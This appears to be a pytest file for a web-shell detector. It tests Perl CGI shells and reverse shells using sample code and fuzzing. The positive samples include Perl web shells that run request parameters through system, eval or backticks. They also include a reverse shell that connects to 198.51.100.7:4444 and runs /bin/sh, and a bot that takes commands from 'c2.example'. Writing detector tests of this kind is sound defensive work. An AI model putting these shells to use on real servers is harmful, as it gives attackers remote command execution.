"""Perl CGI shells and reverse shells (SSC-003-470/471/472): minimal samples written here."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sscguard.detect.webshell import perl
from sscguard.detect.webshell.detectors import FileContext, detect_perl
from sscguard.model import Severity

CGI = '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n";\n'

POSITIVES = {
    "cgi-param-system": (
        CGI + "use CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nsystem($c);\n",
        "SSC-003-471",
    ),
    "query-string-pipe-open": (
        CGI + "my %f;\nforeach my $kv (split(/&/, $ENV{'QUERY_STRING'})) {\n"
        "  my ($k, $v) = split(/=/, $kv);\n  $f{$k} = $v;\n}\n"
        'open(my $p, "$f{run} 2>&1 |");\nprint <$p>;\n',
        "SSC-003-471",
    ),
    "post-body-eval": (
        CGI + "read(STDIN, $body, $ENV{'CONTENT_LENGTH'});\n$body =~ s/^code=//;\neval $body;\n",
        "SSC-003-470",
    ),
    "regex-capture-backticks": (
        CGI + "my $u = $ENV{'REQUEST_URI'};\nif ($u =~ /x=(.*)$/) {\n  print `$1`;\n}\n",
        "SSC-003-471",
    ),
    "sub-parameter": (
        CGI + "sub run { my $cmd = shift; return qx($cmd); }\nprint run(param('q'));\n",
        "SSC-003-471",
    ),
    "reverse-shell": (
        "use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
        "connect(S, sockaddr_in(4444, inet_aton('198.51.100.7')));\n"
        'open(STDIN, ">&S");\nopen(STDOUT, ">&S");\nopen(STDERR, ">&S");\n'
        'exec("/bin/sh -i");\n',
        "SSC-003-472",
    ),
    "socket-command-loop": (
        "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'c2.example', "
        "PeerPort => 6667);\nwhile (my $line = <$s>) {\n"
        "  if ($line =~ /^!run (.+)/) { my @o = `$1`; print $s @o; }\n}\n",
        "SSC-003-472",
    ),
    "bot-sysread": (
        "use IO::Socket;\nuse IO::Select;\nmy $c = IO::Socket::INET->new(PeerAddr => $h);\n"
        "my $sel = IO::Select->new($c);\nfor my $fh ($sel->can_read(1)) {\n"
        "  sysread($fh, my $msg, 4096);\n  system($msg);\n}\n",
        "SSC-003-472",
    ),
}

BENIGN = {
    "cgi-constant-command": CGI
    + "use CGI;\nmy $q = CGI->new;\nmy $n = $q->param('name');\n"
    + "system('/usr/bin/logger', 'visit');\nprint $q->escapeHTML($n);\n",
    "interactive-cli": "#!/usr/bin/perl\nprint 'host? ';\nchomp(my $h = <STDIN>);\n"
    'system("ping -c1 $h");\n',
    "sql-backticks-in-strings": CGI
    + "my $t = param('table');\nmy $sql = \"SELECT * FROM `$t` WHERE 1\";\n"
    + "$dbh->do($sql);\n",
    "require-module-by-name": CGI + "my $m = param('fmt');\neval \"require $m\";\nprint 'ok';\n",
    "file-read-open": CGI + "my $p = param('page');\nopen(my $fh, '<', \"pages/$p.txt\");\n",
    "socket-client-no-exec": "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new('h:80');\n"
    'print $s "GET / HTTP/1.0\\r\\n\\r\\n";\nwhile (my $l = <$s>) { print $l; }\n',
}


@pytest.mark.parametrize("name", sorted(POSITIVES))
def test_positive(name: str) -> None:
    code, rule_id = POSITIVES[name]
    found = detect_perl(FileContext("x.cgi", code.encode()))
    ids = {f.rule_id for f in found}
    assert rule_id in ids, (name, ids)
    finding = next(f for f in found if f.rule_id == rule_id)
    assert finding.severity >= Severity.HIGH
    lines = [e.location.line for e in finding.evidence if e.kind == "dataflow-step"]
    assert lines and all(lines), "each hop has its line"


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign(name: str) -> None:
    found = detect_perl(FileContext("x.pl", BENIGN[name].encode()))
    assert [f for f in found if f.severity >= Severity.MEDIUM] == [], name


def test_modules_and_non_perl_are_not_analysed() -> None:
    code = POSITIVES["cgi-param-system"][0].encode()
    assert detect_perl(FileContext("Lib/Thing.pm", code)) == []
    assert not perl.is_perl("a.php", b"<?php system($_GET['c']);")
    assert perl.is_perl("shell.txt", code)


def test_heredoc_and_pod_are_not_code() -> None:
    code = (
        CGI + "my $c = param('c');\nprint <<HTML;\n<p>system($c)</p>\nHTML\n"
        "=pod\n\nsystem($c);\n\n=cut\n"
    )
    assert detect_perl(FileContext("x.cgi", code.encode())) == []


FAST = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
ALPHABET = "$@%{}();=~`'\"<>|\n #shiftsystemopenparam()QUERY_STRINGmy foreach sub x"


@FAST
@given(st.text(alphabet=ALPHABET, max_size=2000))
def test_random_perl_never_crashes(text: str) -> None:
    result = perl.analyse_perl((CGI + text).encode())
    assert len(result.analysis.paths) <= perl.MAX_PATHS
    assert all(len(p.steps) <= perl.MAX_HOPS for p in result.analysis.paths)


@FAST
@given(st.binary(max_size=4096))
def test_random_bytes_never_crash(data: bytes) -> None:
    detect_perl(FileContext("x.pl", data))


def test_hostile_shapes_stay_within_the_time_bound() -> None:
    shapes = (
        "(" + "$a " * 20000,
        "{" * 50000 + "}" * 50000,
        "my $x0 = param('a');\n" + "".join(f"my $x{i} = $x{i - 1};\n" for i in range(1, 5000)),
        "`" * 100000,
    )
    for body in shapes:
        started = time.monotonic()
        perl.analyse_perl((CGI + body).encode())
        assert time.monotonic() - started < 3, body[:20]


def test_sources_of_other_languages_are_not_sniffed_for_perl() -> None:
    """A server runs Perl by extension (.pl, .cgi) or #! line: a script with Perl markers
    under a collection name is Perl, the same text as a stylesheet or JavaScript is not."""
    code = b"use strict;\nmy $q = shift;\nsub run { chomp($q); }\nsystem($q);\n"
    assert perl.is_perl("shell.txt", code)
    assert perl.is_perl("shell", code)
    assert not perl.is_perl("app.js", code)
    assert not perl.is_perl("README.md", code)
    assert perl.is_perl("app.js", b"#!/usr/bin/perl\n" + code)  # the #! line still counts
